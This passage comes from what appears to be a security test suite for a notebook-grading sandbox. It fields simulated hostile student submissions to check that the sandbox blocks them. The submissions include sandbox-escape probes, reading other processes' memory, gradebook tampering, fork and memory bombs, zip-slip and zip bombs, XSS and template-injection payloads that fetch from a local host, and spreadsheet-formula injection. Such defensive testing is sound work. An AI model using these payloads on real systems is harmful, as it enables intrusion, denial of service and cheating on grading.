        return lambda: any([seen(f"/proc/{n}/{what}") for n in near])

    def seen(path):
        try:
            if os.path.islink(path):
                return bool(os.readlink(path))
            return bool(os.listdir(path)) if os.path.isdir(path) else read(path)
        except OSError:
            return False

    attempt("environment", of_others("environ"))
    attempt("memory", of_others("mem"))
    attempt("maps", of_others("maps"))
    attempt("open files", of_others("fd"))
    attempt("root", of_others("root"))
    attempt("folder", of_others("cwd"))
    attempt("program", of_others("exe"))
    attempt("command line", of_others("cmdline"))
    attempt("open files of its own that are not its own", lambda: any(
        not os.readlink(f"/proc/self/fd/{n}").startswith(("socket:", "pipe:", "/dev/null", "/proc/", "/dev/urandom"))
        for n in os.listdir("/proc/self/fd") if os.path.lexists(f"/proc/self/fd/{n}")))
    attempt("the classroom in mountinfo", lambda: any(
        path in open("/proc/self/mountinfo").read() for path in (here.out, here.submissions, here.root + "/solutions")))
    attempt("the outside through its own root", lambda: os.listdir("/proc/self/root" + here.out))
    attempt("the outside through its own folder", lambda: os.listdir("/proc/self/cwd/../../../../../.." + here.out))
    attempt("kernel messages", lambda: read("/proc/kmsg"))
    attempt("kernel memory", lambda: read("/proc/kcore"))
    attempt("block devices", lambda: any(read(path) for path in glob.glob("/dev/[svx]d*") + ["/dev/mem", "/dev/vda"]))
""",
)
probe(
    "read the environment",
    """
    everything = json.dumps(dict(os.environ)) + open("/proc/self/cmdline").read()
    everything += open("/proc/self/environ", errors="replace").read()
    attempt("a secret", lambda: here.secret in everything)
    attempt("where the grades are", lambda: here.out in everything or here.submissions in everything)
    attempt("a seed", lambda: "seed" in everything.lower().replace("hashseed", ""))
    attempt("who grades",
            lambda: bool(set(os.environ) & {"USER", "LOGNAME", "SUDO_USER", "SSH_AUTH_SOCK", "PYTEST_CURRENT_TEST"}))
    attempt("name of the machine",
            lambda: here.host in open("/proc/sys/kernel/hostname").read() and "namespaces" in here.kind)
""",
)
probe(
    "search frames and objects",
    """
    import gc, inspect
    names = set()
    frame = sys._getframe()
    while frame:
        names |= set(frame.f_locals) | set(frame.f_globals)
        frame = frame.f_back
    attempt("frames",
            lambda: bool(names & {"expected", "exam", "answers", "hidden", "mistakes", "verdict", "judged"}))
    wanted = {"Expected", "Exam", "ExerciseResult", "StudentResult", "Homework", "Oracle", "Template", "Mistake",
              "Verdict", "Question"}
    attempt("objects", lambda: any(type(thing).__name__ in wanted for thing in gc.get_objects()))
    of_the_grader = ("course.authoring", "course.grading.judge", "course.grading.exam", "course.grading.grade",
                     "course.grading.run.oracle", "exercises", "solutions")
    attempt("modules", lambda: any(name.startswith(of_the_grader) for name in sys.modules))
    functions = [thing for thing in gc.get_objects() if type(thing).__name__ == "function"]
    attempt("functions of the answers", lambda: any(f.__code__.co_filename.endswith("exercises.py") for f in functions))
    files = [thing.name for thing in gc.get_objects() if type(thing).__name__ == "FileIO"]
    attempt("open files", lambda: any(not isinstance(name, int) for name in files))
""",
)
probe(
    "search its own memory for what it inherited",
    """
    # The words of the searches do not match themselves.
    words = [rb"he model answer, which nobody(?<=[T].{28})", rb"ou added two instead of(?<=[Y].{22})",
             rb"ef plus_two(?<=[d].{10})"]

    def memory():
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
            for line in list(maps):
                ends, rights, *_, = line.split()
                if rights.startswith("rw") and "[vv" not in line:
                    begin, end = (int(part, 16) for part in ends.split("-"))
                    for at in range(begin, end, 2**24):
                        try:
                            mem.seek(at)
                            part = mem.read(min(2**24, end - at))
                        except (OSError, OverflowError):
                            continue
                        if any(re.search(word, part) for word in words):
                            return True
        return False

    attempt("an answer", memory)
    attempt("memory shared with others", lambda: any(
        line.split()[1] == "rw-s" and "/dev/zero" not in line for line in open("/proc/self/maps")))
""",
)
probe(
    "use the descriptors that it was given",
    """
    import stat
    fd = "/proc/self/fd/"
    own = {int(n): os.readlink(fd + n) for n in os.listdir(fd) if os.path.exists(fd + n)}
    kinds = [stat.S_IFMT(os.fstat(n).st_mode) for n in own]
    sockets = [n for n, name in own.items() if name.startswith("socket:")]
    attempt("a folder or a file", lambda: bool(set(kinds) - {stat.S_IFIFO, stat.S_IFSOCK, stat.S_IFCHR}))
    attempt("somebody else's socket", lambda: len(sockets) != 1)

    def given():
        with socket.socket(fileno=os.dup(sockets[0])) as channel:
            channel.settimeout(0.2)
            return bool(socket.recv_fds(channel, 0, 5)[1])

    attempt("one that is handed over", given)
    attempt("the other end's name", lambda: bool(socket.socket(fileno=os.dup(sockets[0])).getpeername()))
    attempt("the terminal", lambda: os.open("/dev/tty", os.O_RDWR))
    attempt("type into the terminal", lambda: __import__("fcntl").ioctl(0, 0x5412, b"x"))
""",
)
probe(
    "write where it has no business",
    f"""
    attempt("gradebook",
            lambda: sqlite3.connect(here.out + "/gradebook.db").execute("update grade set manual_score = 99"))
    attempt("grades", lambda: write(here.out + "/grades.csv"))
    attempt("feedback", lambda: write(here.out + "/feedback/{MARK}.html"))
    attempt("results", lambda: write(here.out + "/results/an honest right one.json"))
    attempt("a classmate", lambda: write(here.submissions + "/an honest wrong one.ipynb"))
    attempt("a new student", lambda: write(here.submissions + "/{MARK}.ipynb"))
    attempt("a classmate removed", lambda: os.remove(here.submissions + "/an honest right one.ipynb"))
    attempt("answers", lambda: write(here.root + "/solutions/{MARK}"))
    attempt("package", lambda: write(here.package + "/{MARK}.py"))
    attempt("package's code", lambda: open(here.package + "/grading/judge/exercise.py", "r+").close())
    attempt("compiled code", lambda: write(here.package + "/grading/__pycache__/{MARK}.pyc"))
    attempt("libraries", lambda: write(os.path.dirname(torch.__file__) + "/{MARK}.py"))
    attempt("Python", lambda: write(sys.prefix + "/{MARK}"))
    attempt("a library's code cut", lambda: os.truncate(torch.__file__, 0))
    attempt("its mode", lambda: os.chmod(torch.__file__, 0o777))
    attempt("its time", lambda: os.utime(torch.__file__))
    attempt("renamed", lambda: os.rename(here.package, here.package + "{MARK}"))
    attempt("system", lambda: write("/usr/bin/{MARK}"))
    attempt("root", lambda: write("/{MARK}"))
    attempt("etc", lambda: write("/etc/{MARK}"))
    attempt("kernel", lambda: write("/proc/sys/kernel/core_pattern", b"|/bin/sh"))
    attempt("control groups",
            lambda: any(bool(write(path, b"0")) for path in glob.glob("/sys/fs/cgroup/*/cgroup.procs")))
    attempt("device", lambda: os.mknod("{MARK}", 0o20666, os.makedev(1, 1)))
    attempt("disk", lambda: os.mknod("{MARK}d", 0o60666, os.makedev(254, 0)))
    attempt("linked in", lambda: os.link(torch.__file__, "{MARK}l"))
    attempt("through a link", lambda: os.symlink(here.out + "/{MARK}", "{MARK}s") or write("{MARK}s"))
""",
)
probe(
    "send something",
    """
    def tcp(family, address):
        with socket.socket(family) as line:
            line.settimeout(0.5)
            line.connect(address)

    def udp(address, family=socket.AF_INET):
        with socket.socket(family, socket.SOCK_DGRAM) as line:
            line.sendto(b"stolen", address)

    attempt("loopback", lambda: tcp(socket.AF_INET, ("127.0.0.1", here.port)))
    attempt("another loopback", lambda: tcp(socket.AF_INET, ("127.9.9.9", here.port)))
    attempt("zero", lambda: tcp(socket.AF_INET, ("0.0.0.0", here.port)))
    attempt("::1", lambda: tcp(socket.AF_INET6, ("::1", here.port6)))
    attempt("4 in 6", lambda: tcp(socket.AF_INET6, ("::ffff:127.0.0.1", here.port)))
    attempt("LAN", lambda: tcp(socket.AF_INET, (here.lan, here.port)))
    attempt("internet", lambda: tcp(socket.AF_INET, ("192.0.2.1", 80)))
    attempt("metadata service", lambda: tcp(socket.AF_INET, ("169.254.169.254", 80)))
    attempt("UDP", lambda: udp(("127.0.0.1", here.udp)))
    attempt("UDP to the LAN", lambda: udp((here.lan, here.udp)))
    attempt("broadcast", lambda: udp(("255.255.255.255", here.udp)))
    attempt("multicast", lambda: udp(("224.0.0.1", here.udp)))
    attempt("DNS", lambda: socket.getaddrinfo("example.org", 80))
    attempt("DNS of the LAN", lambda: socket.gethostbyname(here.host + ".local"))
    attempt("abstract socket", lambda: tcp(socket.AF_UNIX, "\\0" + here.abstract))
    attempt("socket with a path", lambda: tcp(socket.AF_UNIX, here.path))
    attempt("systemd", lambda: tcp(socket.AF_UNIX, "/run/systemd/private"))
    attempt("docker", lambda: tcp(socket.AF_UNIX, "/var/run/docker.sock"))
    attempt("D-Bus", lambda: tcp(socket.AF_UNIX, "/run/dbus/system_bus_socket"))
    attempt("host of the virtual machine", lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, 1024)))
    attempt("raw packets", lambda: socket.socket(17, socket.SOCK_RAW).send(b"x"))
    attempt("ping", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
    attempt("SCTP", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect(("127.0.0.1", here.port)))
    attempt("bluetooth", lambda: socket.socket(31, socket.SOCK_RAW, 1))
    attempt("kernel crypto", lambda: socket.socket(38, socket.SOCK_SEQPACKET))
    attempt("other networks in netlink", lambda: bool({name for _, name in socket.if_nameindex()} - {"lo"}))
    attempt("a route made",
            lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).send(struct.pack("I", 2**31) + bytes(28)) < 0)
    attempt("sockets of others",
            lambda: here.abstract in open("/proc/self/net/unix").read() and "namespaces" in here.kind)
    attempt("datagram pair to another",
            lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b"x", f"\\0{here.abstract}d"))
    attempt("a program that is there already",
            lambda: os.system(f"bash -c 'echo > /dev/tcp/127.0.0.1/{here.port}' 2>/dev/null") == 0)
""",
)
probe(
    "touch other processes",
    """
    parent = os.getppid()
    others = [n for n in {parent, here.pid, here.sleeper, 1} - {os.getpid()} if n > 0]

    def to_each(action):
        def all_of_them():
            done = []
            for n in others:
                try:
                    action(n)
                    done.append(n)
                except OSError:
                    pass
            return done if done else False
        return all_of_them

    class Piece(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    def copy(n):
        space = ctypes.create_string_buffer(8)
        mine, theirs = Piece(ctypes.addressof(space), 8), Piece(id(None), 8)
        call("process_vm_readv", n, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)

    attempt("terminate", to_each(lambda n: os.kill(n, signal.SIGTERM)))
    attempt("kill", to_each(lambda n: os.kill(n, signal.SIGKILL)))
    attempt("stop", to_each(lambda n: os.kill(n, signal.SIGSTOP)))
    attempt("ask whether it is there", to_each(lambda n: os.kill(n, 0)))
    others_groups = [n for n in others if n != os.getpgid(0)]
    attempt("groups", lambda: any([call("killpg", n, signal.SIGKILL) is None for n in others_groups]))
    attempt("queue a signal", to_each(lambda n: call("sigqueue", n, 9, 0)))
    attempt("attach", to_each(lambda n: call("ptrace", 16, n, 0, 0)))
    attempt("seize", to_each(lambda n: call("ptrace", 0x4206, n, 0, 0)))
    attempt("read memory", to_each(copy))
    attempt("a handle", to_each(lambda n: os.pidfd_open(n)))
    attempt("limits", to_each(lambda n: __import__("resource").prlimit(n, __import__("resource").RLIMIT_CPU, (1, 1))))
    attempt("priority", to_each(lambda n: os.setpriority(os.PRIO_PROCESS, n, 19)))
    attempt("processors", to_each(lambda n: os.sched_setaffinity(n, {0})))
    attempt("a better priority", lambda: os.nice(-10))
    attempt("real time", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10)))
    attempt("less likely to be ended", lambda: write("/proc/self/oom_score_adj", b"-1000"))
    attempt("larger limits", lambda: call("setrlimit", 7, struct.pack("QQ", 10**6, 10**6)))
""",
)
probe(
    "become more",
    """
    attempt("root", lambda: os.getuid() != 0 and os.setuid(0))
    attempt("root's group", lambda: os.getgid() != 0 and os.setgid(0))
    attempt("groups", lambda: os.setgroups([0]))
    attempt("capabilities", lambda: int(re.search(r"CapEff:\\s*(\\w+)", open("/proc/self/status").read())[1], 16) != 0)
    attempt("capabilities to be had", lambda: "NoNewPrivs:\\t1" not in open("/proc/self/status").read())
    attempt("mount", lambda: call("mount", b"x", b"/", b"tmpfs", 0, None))
    attempt("unmount", lambda: call("umount2", b"/proc", 2))
    attempt("chroot", lambda: os.chroot("/"))
    attempt("namespaces", lambda: call("unshare", 0x10000000))
    attempt("others' namespaces", lambda: call("setns", os.open("/proc/self/ns/net", 0), 0))
    attempt("host name", lambda: call("sethostname", b"x", 1))
    attempt("open by handle", lambda: call("open_by_handle_at", 0, ctypes.create_string_buffer(64), 0))
    attempt("keys of the user",
            lambda: call("syscall", ctypes.c_long(250), ctypes.c_long(0), ctypes.c_long(-4), 0, 0, 0)
            if os.uname().machine == "x86_64" else False)
    attempt("bpf",
            lambda: call("syscall", ctypes.c_long(321), 0, 0, 0, 0, 0) if os.uname().machine == "x86_64" else False)
    attempt("io_uring", lambda: call("syscall", ctypes.c_long(425), 1, ctypes.create_string_buffer(200), 0, 0, 0))
    attempt("another architecture's calls", lambda: call("personality", ctypes.c_ulong(8)))
    attempt("reboot", lambda: call("reboot", 0))
    attempt("clock", lambda: __import__("time").clock_settime(0, 0))
""",
)
LEAVES = """
    places = ["/dev/shm", "/tmp", "/var/tmp", os.getcwd(), os.path.dirname(os.getcwd()), os.environ["TMPDIR"],
              os.environ["MPLCONFIGDIR"], "/sandbox/server", "/sandbox/job", "/sandbox/exchange", "/run", "/run/lock",
              "/var/lock", "/dev", "/dev/mqueue", here.temporary]
"""
probe(
    "leave a word for the next one",
    LEAVES
    + f"""
    for place in places:
        try:
            write(place + "/{MARK}word")
        except OSError:
            pass
    for action in (
        lambda: libc.shmget(0x5EC2E7, 4096, 0o1666), lambda: libc.semget(0x5EC2E7, 1, 0o1666),
        lambda: libc.msgget(0x5EC2E7, 0o1666), lambda: libc.mq_open(b"/{MARK}", 0o102, 0o666, None),
        lambda: libc.shm_open(b"/{MARK}", 0o102, 0o666),
        lambda: socket.socket(socket.AF_UNIX).bind("\\0{MARK}bound"),
        lambda: socket.socket(socket.AF_UNIX).bind("{MARK}bound"),
    ):
        try:
            action()
        except (OSError, AttributeError):
            pass
    attempt("nothing", lambda: False)
""",
)
probe(
    "take up a word that was left",
    LEAVES
    + f"""
    attempt("files", lambda: [place for place in places if os.path.exists(place + "/{MARK}word")] or False)
    attempt("shared memory", lambda: libc.shmget(0x5EC2E7, 4096, 0) >= 0)
    attempt("semaphores", lambda: libc.semget(0x5EC2E7, 1, 0) >= 0)
    attempt("messages", lambda: libc.msgget(0x5EC2E7, 0) >= 0)
    attempt("message queues", lambda: libc.mq_open(b"/{MARK}", 0) >= 0 if hasattr(libc, "mq_open") else False)
    attempt("shared memory with a name",
            lambda: libc.shm_open(b"/{MARK}", 0, 0) >= 0 if hasattr(libc, "shm_open") else False)
    attempt("files that nobody took away", lambda: bool(os.listdir(os.getcwd())) or len(os.listdir("/dev/shm")) > 0
            if "namespaces" in here.kind else bool(os.listdir(os.getcwd())))
""",
)


# -- time and memory


def short(name: str, source: str, says: str, where: str = "double", attacks: list[Attack] = SHORT) -> None:
    """Under 3 seconds for a cell and 512 MB; the cell ends with a wrong answer.

    Whoever must meet another limit than the time is of the `CLASS`, which has 30 seconds: a busy machine is slow.
    """
    imports = "import ctypes, mmap, os, re, signal, sys, threading, time\n"
    source = f"{imports}{textwrap.dedent(source)}\n\n{NOTHING_RIGHT[where]}"
    attacks.append(Attack(name, {where: source}, says))


LATE = "did not come to an end within 3 seconds"
short(
    "a loop that ignores every signal",
    """
    for n in range(1, 65):
        try: signal.signal(n, signal.SIG_IGN)
        except Exception: pass
    while True:
        try:
            while True: pass
        except BaseException: pass
""",
    LATE,
)
SHORT.append(
    Attack(
        "a search in C that backtracks",
        {"double": "import re\ndef double(x):\n    return re.match('(a+)+$', 'a' * 60 + 'b')"},
        LATE,
    )
)
SHORT.append(
    Attack(
        "a sum in C",
        {"mean_and_spread": "def mean_and_spread(x):\n    return sum(range(10**13))"},
        f"mean_and_spread: .*{LATE}",
    )
)
short(
    "recursion for ever",
    "sys.setrecursionlimit(10**9)\ndef down(): down()\ndown()",
    f"{LATE}|MemoryError|SIGSEGV|killed",
)
short("a power of ten", "10 ** 10**8", LATE)
short(
    "a sort that compares for ever",
    """
    class Slow:
        def __lt__(self, other): time.sleep(3600)
    sorted([Slow(), Slow()])
""",
    LATE,
    where="Scale",
)
short("sleep for ever", "time.sleep(10**6)", LATE, where="mean_and_spread")
short("wait for somebody to type", "input('Your password? ')", "EOFError|OSError", attacks=CLASS)
short("read for ever", "os.read(os.pipe()[0], 1)", LATE)
short(
    "take the grader's words",
    """
    from course.grading.run.stand_in import _Line
    os.read(_Line.channel.fileno(), 10**6)
""",
    LATE,
)
short(
    "drip a frame",
    """
    from course.grading.run import frames
    from course.grading.run.stand_in import _Line
    _Line.channel.sendall(frames.HEADER.pack(frames.CELL, 1, 60_000))
    while True:
        _Line.channel.sendall(b" ")
        time.sleep(0.1)
""",
    LATE,
)
short(
    "stop its process group for good",
    """
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.kill(0, signal.SIGSTOP)
    while True: time.sleep(1)
""",
    LATE,
)
short("print without end", "block = b'x' * 2**16\nwhile True: os.write(1, block)", LATE)
short(
    "a memory bomb",
    "held = []\nwhile True: held.append(bytearray(2**24))",
    "MemoryError|can't allocate memory|killed by the system",
    attacks=CLASS,
)
short(
    "a memory bomb of tensors",
    "held = []\nwhile True: held.append(torch.ones(2**22))",
    "allocate memory|killed by the system",
    attacks=CLASS,
)
short(
    "a memory bomb in many processes",
    """
    for i in range(12):
        if os.fork() == 0:
            held = bytearray(200 * 2**20)
            held[::4096] = bytes(len(held[::4096])).replace(b"\\0", b"x")
            time.sleep(60)
    time.sleep(60)
""",
    LATE + "|killed by the system",
    where="Scale",
)
short(
    "a fork bomb",
    """
    while True:
        try: os.fork()
        except OSError: time.sleep(0.1)
""",
    LATE + "|crashed|killed|wrote|ended",
    where="mean_and_spread",
)
short(
    "a fork bomb that leaves its parents",
    """
    for i in range(10**6):
        try:
            if os.fork(): os._exit(0)
            os.setsid()
        except OSError: time.sleep(0.01)
""",
    "ended the process it ran in|" + LATE,
)
short(
    "a class whose name takes for ever",
    """
    class Meta(type):
        @property
        def __name__(cls): time.sleep(3600)
    class Slow(Exception, metaclass=Meta):
        def __str__(self): time.sleep(3600)
    raise Slow
""",
    "double: ",
)
BEYOND_PRIVATE = {
    "shared memory": """
        held = []
        while len(held) < 24:
            held.append(mmap.mmap(-1, 2**26))
            for at in range(0, 2**26, 4096): held[-1][at] = 1
    """,
    "files that only memory has": """
        held = []
        while len(held) < 24:
            held.append(os.memfd_create("x"))
            os.write(held[-1], bytes(2**26))
    """,
    "its own folders": """
        for folder in (os.getcwd(), "/dev/shm"):
            try:
                for i in range(12):
                    with open(f"{folder}/{i}", "wb") as file: file.write(bytes(2**26))
            except OSError: pass
        raise MemoryError("1.5 GB were refused")
    """,
}
for where, source in BEYOND_PRIVATE.items():
    short(
        f"a memory bomb in {where}",
        source + "\n",
        f"MemoryError|killed by the system|OSError|{LATE}",
    )


# -- files and notebooks


def placed(name: str, says: str, points: float = 0.0):
    """The function below makes the files of the student; see `Attack.place`."""

    def add(make: Callable[[Path, str, "Maker"], None]) -> None:
        CLASS.append(Attack(name, {}, says, points, make))

    return add


@dataclass
class Maker:
    """What notebooks are made from: the released one as `new_work` gives it."""

    new_work: Callable

    def solved(self, **cells: str):
        return self.new_work().solve().write(**cells)

    def wrong(self, **cells: str):
        return self.new_work().write(**{**NOTHING_RIGHT, **cells})

    def zipped(self, *members: tuple[str, bytes, int]) -> bytes:
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content, mode in members:
                info = zipfile.ZipInfo(name, (2026, 3, 1, 9, 0, 0))
                info.external_attr, info.compress_type = (
                    mode << 16,
                    zipfile.ZIP_DEFLATED,
                )
                archive.writestr(info, content)
        return made.getvalue()


FILE, LINK, DEVICE = stat.S_IFREG | 0o644, stat.S_IFLNK | 0o777, stat.S_IFBLK | 0o666


@placed("a link to a classmate", "symbolic link")
def _(folder, name, maker):
    (folder / name).mkdir()
    (folder / name / f"{TOPIC}.ipynb").symlink_to(f"../{RIGHT}.ipynb")


@placed("a folder that is a link to a classmate's", "symbolic link")
def _(folder, name, maker):
    (folder / "an honest one in a folder" / TOPIC).mkdir(parents=True)
    maker.solved().save(folder / "an honest one in a folder" / TOPIC / f"{TOPIC}.ipynb")
    (folder / name).mkdir()
    (folder / name / TOPIC).symlink_to(folder / "an honest one in a folder" / TOPIC)


@placed("a hundred links around in a circle", "symbolic link|no notebook")
def _(folder, name, maker):
    (folder / name).mkdir()
    for i in range(100):
        (folder / name / f"l{i}").symlink_to(folder / name)


@placed("a pipe that nobody writes to", "It is no ordinary file")
def _(folder, name, maker):
    (folder / name).mkdir()
    os.mkfifo(folder / name / f"{TOPIC}.ipynb")


@placed("a link in a zip", "symbolic link")
def _(folder, name, maker):
    (folder / f"{name}.zip").write_bytes(maker.zipped((f"{TOPIC}.ipynb", f"../{RIGHT}.ipynb".encode(), LINK)))


@placed("a device in a zip", "no notebook|empty|No notebook|unreadable|The file")
def _(folder, name, maker):
    (folder / f"{name}.zip").write_bytes(maker.zipped((f"{TOPIC}.ipynb", b"", DEVICE)))


@placed("a zip that climbs out", "")
def _(folder, name, maker):
    paths = (
        f"../{RIGHT}.ipynb",
        f"../../{MARK}.ipynb",
        f"/tmp/{MARK}.ipynb",
        f"{TOPIC}/../../{RIGHT}.ipynb",
        f"C:\\{MARK}.ipynb",
        f"..\\{MARK}.ipynb",
    )
    climbing = [(path, maker.wrong().to_bytes(), FILE) for path in paths]
    (folder / f"{name}.zip").write_bytes(maker.zipped(*climbing, (f"{TOPIC}.ipynb", maker.wrong().to_bytes(), FILE)))


@placed("a zip bomb", "larger than")
def _(folder, name, maker):
    (folder / f"{name}.zip").write_bytes(maker.zipped((f"{TOPIC}.ipynb", bytes(210 * 2**20), FILE)))


@placed("a zip of overlapping bombs", "damaged|larger|limit|no notebook")
def _(folder, name, maker):
    one = bytearray(maker.zipped((f"{TOPIC}.ipynb", bytes(2**20), FILE)))
    entry = one[one.index(b"PK\1\2") : one.index(b"PK\5\6")]
    end = bytearray(one[one.index(b"PK\5\6") :])
    struct.pack_into("<HHI", end, 8, 2000, 2000, 2000 * len(entry))
    (folder / f"{name}.zip").write_bytes(bytes(one[: one.index(b"PK\1\2")] + entry * 2000 + end))


@placed("zips inside zips", "no notebook|zip|No notebook")
def _(folder, name, maker):
    data = bytes(10**6)
    for depth in range(30):
        data = maker.zipped((f"{depth}.zip" if depth else f"{TOPIC}.ipynb", data, FILE))
    (folder / f"{name}.zip").write_bytes(data)


@placed("a million cells", "5000 are read at most")
def _(folder, name, maker):
    (folder / f"{name}.ipynb").write_bytes(b'{"nbformat": 4, "metadata": {}, "cells": [' + b"{}," * 10**6 + b"{}]}")


@placed("brackets without end", "damaged|nested|no notebook")
def _(folder, name, maker):
    (folder / f"{name}.ipynb").write_bytes(b'{"cells": ' + b"[" * 10**6)


@placed("100 MB of output", VALUES)
def _(folder, name, maker):
    work = maker.wrong()
    work["double"]["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "@"}]
    (folder / f"{name}.ipynb").write_bytes(work.to_bytes().replace(b'"@"', b'"' + b"x" * 100 * 2**20 + b'"'))


@placed("more than any file may have", "larger than 150 MB")
def _(folder, name, maker):
    with open(folder / f"{name}.ipynb", "wb") as file:
        file.truncate(2**40)  # nothing of it is on the disk


@placed("bytes that are no text", "not in UTF-8", points=6.5)  # they are in a sentence of the course
def _(folder, name, maker):
    (folder / f"{name}.ipynb").write_bytes(maker.solved().to_bytes().replace(b"Double it", b"\xff\xfe\x80"))


@placed("NUL in the code", "double: ")
def _(folder, name, maker):
    maker.wrong(double="def double(x):\n    return 2 * x\0").save(folder / f"{name}.ipynb")


@placed("grading data of its own", "The grading data of (check_)?\\w+ was edited")
def _(folder, name, maker):
    work = maker.wrong()
    for grade_id in ("double", "check_double", "Scale", "check_Scale"):
        work[grade_id]["metadata"]["nbgrader"].update(points=1e9, grade=True, locked=False, score=1e9, checksum="0")
    work["double"]["metadata"].update(
        tags=["setup"],
        __proto__={"points": 1e9},
        constructor={"prototype": {"points": 9}},
    )
    work.content["metadata"].update(
        points=1e9,
        kernelspec={"argv": ["/bin/sh", "-c", f"touch /tmp/{MARK}"], "name": "sh"},
    )
    work.save(folder / f"{name}.ipynb")


@placed("the id of another exercise", "double: |Scale: ")
def _(folder, name, maker):
    # One right answer under the labels of all: it earns what it answers, once.
    work = maker.wrong()
    for grade_id in (
        "double",
        "mean_and_spread",
        "Scale",
        "check_double",
        "why",
        "solution",
        "points",
        "../double",
        "__proto__",
    ):
        work.add(
            NOTHING_RIGHT["double"] + "\nmean_and_spread = Scale = double",
            metadata={
                "nbgrader": {
                    "grade_id": grade_id,
                    "points": 1e9,
                    "solution": True,
                    "grade": True,
                    "locked": False,
                    "schema_version": 3,
                }
            },
        )
    work.save(folder / f"{name}.ipynb")


@placed("every cell a hundred times", "is there 100 times|is there \\d+ times")
def _(folder, name, maker):
    work = maker.wrong()
    work.content["cells"] = work.content["cells"] * 100
    work.save(folder / f"{name}.ipynb")


@placed("a right answer a hundred times", "is there 100 times", points=2.0)
def _(folder, name, maker):
    work = maker.wrong(double="def double(x):\n    return 2 * x")
    work.content["cells"] += [work["double"]] * 99
    work.save(folder / f"{name}.ipynb")


@placed("an edited check and a check of its own", "was edited")
def _(folder, name, maker):
    work = maker.wrong()
    work["check_double"]["source"] = "check = lambda *arguments: True\nopen('gradebook', 'w')"
    work["setup"]["source"] += "\ndef check(*arguments):\n    return 'right'"
    work.add(
        "import course\ndef check(name, thing): return True\n"
        "class Patched:\n    import course.checks as c\n    c.judge = lambda *a: True"
    )
    work.save(folder / f"{name}.ipynb")


SCRIPT = "<script>document.title='attacked';fetch('http://127.0.0.1:9/stolen')</script>"
HTML = (
    f"{SCRIPT}<img src=x onerror=\"document.title='attacked'\"><svg onload=\"document.title='attacked'\"></svg>"
    f"</pre></div></style></title><iframe src=\"javascript:parent.document.title='attacked'\"></iframe>"
    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'><base href='http://127.0.0.1:9/'>"
    "<link rel=stylesheet href='http://127.0.0.1:9/x.css'><style>@import 'http://127.0.0.1:9/y';</style>"
    "<form action='http://127.0.0.1:9/'><button autofocus onfocus=\"document.title='attacked'\">x</button></form>"
)
MARKDOWN = f"""{HTML}

[click](javascript:document.title='attacked') [click](JaVaScRiPt:alert(1))
[click](data:text/html;base64,{base64.b64encode(SCRIPT.encode()).decode()})
[click](vbscript:x) <javascript:alert(1)> [a]: javascript:alert(1)
![x](http://127.0.0.1:9/x.png) ![x](x" onerror="document.title='attacked')
[click](  java&#10;script:alert(1)) [a](&#x6A;avascript:alert(1)) <a href="javascript:alert(1)" onclick="x">y</a>
`{SCRIPT}`

```html" onmouseover="alert(1)
{SCRIPT}
```
{{{{ 7 * 7 }}}} {{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}}
${{7*7}} #{{7*7}} <%= 7*7 %> $$\\href{{javascript:alert(1)}}{{x}}$$
"""


@placed("a page that runs something", "double: |Your code stopped")
def _(folder, name, maker):
    double = f"'''{HTML}{{{{ 7 * 7 }}}}'''\ndef double(x):\n    raise ValueError({HTML + '{{ 7 * 7 }}{% raw %}'!r})"
    work = maker.wrong(double=double, why=MARKDOWN)
    work.add(MARKDOWN, cell_type="markdown")
    work.add(f"note = {HTML!r}")
    work["double"]["outputs"] = [
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {
                "text/html": SCRIPT,
                "application/javascript": "document.title='attacked'",
                "image/svg+xml": "<svg onload=\"document.title='attacked'\"/>",
                "text/markdown": MARKDOWN,
            },
        },
    ]
    work.save(folder / f"{name}.ipynb")


@placed("<img src=x onerror=document.title='attacked'>{{7*7}}", "")
def _(folder, name, maker):
    maker.wrong().save(folder / name / TOPIC / f"{TOPIC}.ipynb")


@placed('"><svg onload=document.title=1>', "")
def _(folder, name, maker):
    maker.wrong().save(folder / name / TOPIC / f"{TOPIC}.ipynb")


@placed("a formula in the table", "double: ")
def _(folder, name, maker):
    formulas = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")\n=cmd|\' /C calc\'!A0,"\n+1,@SUM(1)\r-2\t=3'
    maker.wrong(double=f"def double(x):\n    raise ValueError({formulas!r})").save(folder / f"{name}.ipynb")


@placed("=cmd|' !A0", "")
def _(folder, name, maker):
    maker.wrong().save(folder / name / TOPIC / f"{TOPIC}.ipynb")


# -- grading the classes


@dataclass
class Graded:
    """A class after grading; `place` holds everything."""

    place: Path
    status: int
    said: str
    rows: dict[str, dict[str, str]]
    seconds: float
    kind: str
    left: dict[str, list[str]]
    errors: dict[str, str]  # of a cell, as its process told it: no page shows that

    @property
    def out(self) -> Path:
        return self.place / "out"

    def page(self, student: str) -> str:
        names = {json.loads(p.read_bytes())["student"]: p.stem for p in (self.out / "results").glob("*.json")}
        return (self.out / "feedback" / f"{names[student]}.html").read_text()


def grade(attacks: list[Attack], small_course: Path, new_work, *options: str, kind: str = "") -> Graded:
    """Grade a class with these attackers in a process of its own, and look at what is left afterwards.

    Args:
        kind: of walls: ``""`` for the best there are, `house.NAMESPACES` without bubblewrap, `house.LANDLOCK`, or
            ``"none"`` with the option for that. `FORKED` is as a person grades: a fork of the grader to be is the server.
    """
    # Not pytest's folder: only root may look into that, so that behind walls without namespaces nothing would be tried.
    place = Path(tempfile.mkdtemp(prefix="attacks-"))
    place.chmod(0o755)
    shutil.copytree(small_course, place / "course")
    temporary = place / "tmp"
    temporary.mkdir()
    temporary.chmod(0o777)
    with Listeners(place) as listeners, subprocess.Popen(["sleep", "3600"]) as sleeper:
        given = {
            "root": str(place / "course"),
